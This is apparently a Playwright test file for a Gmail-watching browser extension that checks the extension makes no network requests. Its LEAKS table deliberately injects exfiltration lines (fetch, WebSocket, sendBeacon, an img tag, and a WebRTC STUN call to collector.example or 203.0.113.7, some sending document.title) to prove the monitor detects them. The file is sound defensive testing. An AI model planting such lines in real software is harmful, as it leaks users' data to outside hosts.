import { appendFile, cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { exportRecord } from '../browser/export';
import { BUILT, type WithExtension } from '../browser/extension';
import { composeForWork, openGmail, press, sentAtLast } from '../browser/gmail';
import { setUp } from '../browser/organisation';
import { seen } from '../browser/seen';
import { overhear } from '../browser/traffic';
import { reachesIn } from '../structure/network';

/** What the test itself opens: the extension's own files, and the page that behaves like Gmail. */
const EXPECTED =
  /^(chrome-extension:\/\/|blob:chrome-extension:\/\/|https:\/\/mail\.google\.com\/(mail\/u\/0\/|page\/))/;

/** What stands in the built scripts and asks for nothing, with the reason why each is there. */
const HARMLESS: Readonly<Record<string, string>> = {
  'https://mail.google.com/*': 'the match pattern of a page that is watched',
  'https://': 'the beginning of a match pattern that a person makes in set-up',
  downloads: "a name in webextension-polyfill's table of the browser's own functions; no permission for it",
  sendNativeMessage: "a name in webextension-polyfill's table of the browser's own functions; no permission",
  'http://www.w3.org/2000/svg': "a namespace, not an address: Preact's",
  'http://www.w3.org/1998/Math/MathML': "a namespace, not an address: Preact's",
  'http://www.w3.org/1999/xhtml': "a namespace, not an address: Preact's",
};

test('the built scripts name no way to the network, and the pages and looks no other place', async () => {
  const files = (await readdir(BUILT, { recursive: true })).filter((name) => /\.(js|html|css)$/.test(name));
  expect(files).toEqual(expect.arrayContaining(['background.js', 'panel.js', 'watch.js', 'staff.html']));
  const found = new Set<string>();
  for (const name of files) {
    const text = await readFile(join(BUILT, name), 'utf8');
    const reaches = name.endsWith('.js') ? reachesIn(name, text).map(({ what }) => what) : addressesIn(text);
    for (const what of reaches) found.add(what);
  }
  expect([...found].toSorted()).toEqual(Object.keys(HARMLESS).toSorted());
});

test('the manifest keeps the pages in, and lets nobody else in', async () => {
  const manifest = JSON.parse(await readFile(join(BUILT, 'manifest.json'), 'utf8')) as Record<
    string,
    unknown
  >;
  const { extension_pages } = manifest.content_security_policy as { extension_pages: string };
  expect(extension_pages).toContain("default-src 'none'");
  expect(extension_pages).toContain("connect-src 'none'");
  expect(manifest.permissions).toEqual(['storage', 'unlimitedStorage', 'scripting', 'alarms']);
  expect(manifest).not.toHaveProperty('externally_connectable');
  expect(manifest).not.toHaveProperty('web_accessible_resources');
});

test('nothing is asked of the network, wherever one goes', async () => {
  const { extension, end } = await overhear(BUILT, EXPECTED);
  await setUp(extension);
  await writeOnGmail(extension);
  await practise(extension);
  await readAndExport(extension);
  expect(await end()).toEqual([]);
});

/** Scripts of the extension with a leak put in; `open`: with the policy that keeps its pages in taken off. */
const LEAKS = {
  'a worker that fetches': {
    file: 'background.js',
    open: true,
    code: "fetch('https://collector.example/a')",
  },
  'a worker with a socket': {
    file: 'background.js',
    open: true,
    code: "new WebSocket('wss://collector.example/b')",
  },
  'a page that asks for a picture': {
    file: 'popup.html',
    open: true,
    code: '<img src="https://collector.example/c">',
  },
  'a watching script that fetches': {
    file: 'watch.js',
    open: false,
    code: "fetch('https://collector.example/d', { method: 'POST', body: document.title })",
  },
  'a watching script with a beacon': {
    file: 'watch.js',
    open: false,
    code: "navigator.sendBeacon('https://collector.example/e', document.title)",
  },
  'a panel with a socket': {
    file: 'panel.js',
    open: false,
    code: "new WebSocket('wss://collector.example/f')",
  },
  'a panel that looks for a way round': {
    file: 'panel.js',
    open: false,
    code: `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.7:3478' }] });
      c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }`,
  },
} as const;

for (const [name, { file, open, code }] of Object.entries(LEAKS)) {
  test(`${name} would be heard`, async () => {
    const folder = await leaking(file, code, open);
    const { extension, end } = await overhear(folder, EXPECTED);
    await setUp(extension);
    await writeOnGmail(extension);
    expect((await end()).filter((asked) => /collector\.example|203\.0\.113\.7/.test(asked))).not.toEqual([]);
    await rm(folder, { recursive: true, force: true });
  });
}

test('the policy of its pages stops a worker that fetches', async () => {
  const folder = await leaking('background.js', LEAKS['a worker that fetches'].code, false);
  const { extension, end } = await overhear(folder, EXPECTED);
  await setUp(extension);
  expect(await end()).toEqual([]);
  await rm(folder, { recursive: true, force: true });
});

/** Addresses in a page or a look that lead elsewhere; `//host` too. */
function addressesIn(text: string): readonly string[] {
  return [...text.matchAll(/(?:\b[a-z]+:|["'(=])\/\/[^"')\s]+/g)].map(([address]) => address);
}

async function leaking(file: string, code: string, open: boolean): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'forethought-leak-'));
  await cp(BUILT, folder, { recursive: true });
  await appendFile(join(folder, file), `\n${code}\n`);
  if (open) {
    const place = join(folder, 'manifest.json');
    const manifest = JSON.parse(await readFile(place, 'utf8')) as Record<string, unknown>;
    manifest.content_security_policy = { extension_pages: "script-src 'self'" };
    await writeFile(place, JSON.stringify(manifest));
  }
  return folder;
}

async function writeOnGmail(extension: WithExtension): Promise<void> {
  const page = await openGmail(extension);
  const look = await seen(page);
  const message = { to: ['sam.okoro@young.example'], text: 'Rehearsal is at six.' };
  await press(await composeForWork(page, look, message), 'send');
  await sentAtLast(page);
}

async function practise(extension: WithExtension): Promise<void> {
  const page = await extension.open('practice');
  const look = await seen(page);
  await page.getByRole('button', { name: 'A telephone number' }).click();
  await look.says('Clause');
  await page.getByRole('button', { name: 'Send' }).first().click();
  await look.press('button', 'Go back to my message');
}

async function readAndExport(extension: WithExtension): Promise<void> {
  for (const part of ['#start', '#own', '#where', '#record', '#policy']) {
    const page = await extension.open('staff', part);
    await page.getByRole('heading').first().waitFor();
    await page.close();
  }
  const { name, bytes, passphrase } = await exportRecord(extension);
  const manager = await extension.open('console');
  await manager.locator('input[type=file]').setInputFiles({ name, mimeType: '', buffer: bytes });
  await manager.getByLabel('Passphrase').fill(passphrase ?? '');
  await manager.getByRole('button', { name: 'Open', exact: true }).click();
  await manager
    .getByText(/record is whole/)
    .first()
    .waitFor();
}
